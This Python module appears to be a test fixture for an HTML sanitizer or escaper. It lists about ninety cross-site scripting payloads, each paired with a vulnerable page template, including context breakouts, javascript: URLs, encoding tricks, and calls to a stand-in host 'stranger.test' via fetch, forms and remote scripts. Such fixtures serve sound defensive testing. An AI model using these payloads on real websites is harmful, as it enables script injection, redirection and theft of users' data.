"""Texts that want to be part of a page, each with a page on which it gets its way.

A text calls ``ran(...)`` where it runs as a script, asks for something of ``stranger.test``, or
adds an element marked ``data-theirs``. The second of each pair is a careless page around it, of
which ``%s`` is the text: with None no page that is read as UTF-8 falls for it.
"""

from __future__ import annotations

_BODY = "<p>%s</p>"
_LINK = '<a href="%s">link</a>'
_VALUE = '<p title="%s">value</p>'
_SINGLE = "<p title='%s'>value</p>"
_BARE = "<p title=%s>value</p>"
_STYLE = "<style>p { color: %s }</style><p>styled</p>"
_TITLE = "<title>%s</title>"
_SCRIPT = '<script>var said = "%s"</script>'
_COMMENT = "<!-- %s -->"
_TEXT_AREA = "<textarea>%s</textarea>"
_SVG = "<svg><text>%s</text></svg>"

PAYLOADS: tuple[tuple[str, str | None], ...] = (
    ("<script data-theirs>ran('script')</script>", _BODY),
    ("<SCRIPT data-theirs>ran('capitals')</SCRIPT>", _BODY),
    ("<script data-theirs\n>ran('line break')</script\n>", _BODY),
    ("<script/data-theirs>ran('slash')</script>", _BODY),
    ("<script data-theirs>alert('a dialog')</script>", _BODY),
    ("<script data-theirs>console.log('to the console')</script>", _BODY),
    ("<script data-theirs src=//stranger.test/a.js></script>", _BODY),
    ("<script data-theirs>fetch('http://stranger.test/took')</script>", _BODY),
    ("<script data-theirs>location='http://stranger.test/there'</script>", _BODY),
    ("<script data-theirs>window.open('http://stranger.test/new')</script>", _BODY),
    ("<script data-theirs type=module>ran('module')</script>", _BODY),
    ("<scr<script data-theirs>ran('once removed')</script>ipt>", _BODY),
    ("<img data-theirs src=x onerror=ran('error')>", _BODY),
    ("<img data-theirs src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=ran(1)>", _BODY),
    ("<img data-theirs src=http://stranger.test/pixel.gif>", _BODY),
    ("<image data-theirs src=x onerror=ran('image')>", _BODY),
    ("<svg data-theirs onload=ran('svg')>", _BODY),
    ("<svg/data-theirs/onload=ran('slashes')>", _BODY),
    ("<svg data-theirs><script>ran('svg script')</script></svg>", _BODY),
    ("<svg data-theirs><animate onbegin=ran('begin') attributeName=x dur=1s></svg>", _BODY),
    ("<svg data-theirs><a xlink:href=javascript:ran(1)><text y=9>x</text></a></svg>", _BODY),
    ("<svg data-theirs><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>", _BODY),
    ("<math data-theirs><mtext><img src=x onerror=ran('math')></mtext></math>", _BODY),
    ("<body data-theirs onload=ran('body') onpageshow=ran('shown')>", _BODY),
    ("<p data-theirs onmouseover=ran('over')>hover</p>", _BODY),
    ("<p data-theirs onclick=ran('click') style=position:fixed;inset:0>all of it</p>", _BODY),
    ("<input data-theirs autofocus onfocus=ran('focus')>", _BODY),
    ("<details data-theirs open ontoggle=ran('toggle')>", _BODY),
    ("<video data-theirs><source onerror=ran('source')></video>", _BODY),
    ("<audio data-theirs src=x onerror=ran('audio')>", _BODY),
    ("<object data-theirs data=http://stranger.test/o></object>", _BODY),
    ("<embed data-theirs src=http://stranger.test/e>", _BODY),
    ("<iframe data-theirs srcdoc='<script>parent.ran(1)</script>'></iframe>", _BODY),
    ("<iframe data-theirs srcdoc='&lt;img src=x onerror=top.ran(1)&gt;'></iframe>", _BODY),
    ("<iframe data-theirs src=javascript:parent.ran(1)></iframe>", _BODY),
    ("<iframe data-theirs src=//stranger.test/frame>", _BODY),
    ("<a data-theirs href=javascript:ran('link')>press</a>", _BODY),
    ("<a data-theirs href=http://stranger.test/away target=_blank>press</a>", _BODY),
    ("<form data-theirs action=http://stranger.test/sent><button>go</button></form>", _BODY),
    ("<meta data-theirs http-equiv=refresh content='0;url=http://stranger.test/moved'>", _BODY),
    ("<meta data-theirs http-equiv=Content-Security-Policy content=\"script-src *\">", _BODY),
    ("<base data-theirs href=//stranger.test/><img src=based>", _BODY),
    ("<link data-theirs rel=stylesheet href=http://stranger.test/s.css>", _BODY),
    ("<style data-theirs>@import 'http://stranger.test/i.css';</style>", _BODY),
    ("<style data-theirs>*{display:none!important}</style>", _BODY),
    ("<p data-theirs style=\"background:url(http://stranger.test/b)\">painted</p>", _BODY),
    ("<p data-theirs style=\"width:expression(ran('expression'))\">old</p>", _BODY),
    ("<style data-theirs>@keyframes k{}p{animation:k}</style><p onanimationstart=ran(1)>", _BODY),
    ("<template data-theirs><p>kept</p></template>", _BODY),
    ("<noscript><p title=\"</noscript><img data-theirs src=x onerror=ran('noscript')>\">", _BODY),
    ("<table background=http://stranger.test/t data-theirs><tr><td>x</table>", _BODY),
    ("</p></td></tr></table><script data-theirs>ran('out of the table')</script>", _BODY),
    ("</pre><plaintext data-theirs>", _BODY),
    ("<xmp data-theirs>", _BODY),
    ("<!--><img data-theirs src=x onerror=ran('no comment')>-->", _BODY),
    ("--><img data-theirs src=x onerror=ran('out of a comment')><!--", _COMMENT),
    ("</title><script data-theirs>ran('out of the title')</script>", _TITLE),
    ("</style><script data-theirs>ran('out of the style')</script>", _STYLE),
    ("</textarea><img data-theirs src=x onerror=ran('out of the text area')>", _TEXT_AREA),
    ("</text></svg><img data-theirs src=x onerror=ran('out of the picture')>", _SVG),
    ("red } @import url(//stranger.test/c.css); p { background: url(//stranger.test/d)", _STYLE),
    ('"><img data-theirs src=x onerror=ran("out of a value")>', _VALUE),
    ('" data-theirs onmouseover="ran(1)" x="', _VALUE),
    ("' data-theirs autofocus tabindex=1 onfocus='ran(1)", _SINGLE),
    ("x data-theirs onmouseover=ran(1)", _BARE),
    ("`><img data-theirs src=x onerror=ran(`back`)>", _BARE),
    ("javascript:ran('address')", _LINK),
    ("JaVaScRiPt:ran('mixed')", _LINK),
    ("java\tscript:ran('tab')", _LINK),
    ("\x01javascript:ran('control')", _LINK),
    ("javascript&colon;ran('entity')", _LINK),
    ("&#106;avascript:ran('number')", _LINK),
    ("data:text/html,<script>ran(1)</script>", _BODY),
    ('"; ran("out of a string"); "', _SCRIPT),
    ("</script><script data-theirs>ran('out of the script')</script>", _SCRIPT),
    ("\u2028ran('line separator')\u2028", None),
    ("{{ 7 * 7 }}{% for x in (1, 2) %}<img data-theirs src=x onerror=ran(1)>{% endfor %}", _BODY),
    ("${ran('template')} #{ran(1)} <%= ran(1) %>", None),
    ("{{constructor.constructor('ran(1)')()}}", None),
    ("&lt;script data-theirs&gt;ran('twice')&lt;/script&gt;", _BODY),
    ("%3Cscript%3Eran(1)%3C/script%3E", None),
    ("\\u003cscript\\u003eran(1)\\u003c/script\\u003e", None),
    ("＜script data-theirs＞ran('full width')＜/script＞", None),
    ("‹script data-theirs›ran('quotes')‹/script›", None),
    ("+ADw-script+AD4-ran(1)+ADw-/script+AD4-", None),
    ("<\u200bscript data-theirs>ran('zero width')</script>", None),
    ("\u202e<script data-theirs>ran('from right to left')</script>", _BODY),
    ("<ſcript data-theirs>ran('long s')</ſcript>", None),
    ("<ımg data-theirs src=x onerror=ran('no dot')>", None),
    ("<a data-theirs href=\"\u3000javascript:ran(1)\">wide space</a>", _BODY),
    ("[press](javascript:ran(1)) ![](http://stranger.test/m.png)", None),
)  # fmt: skip
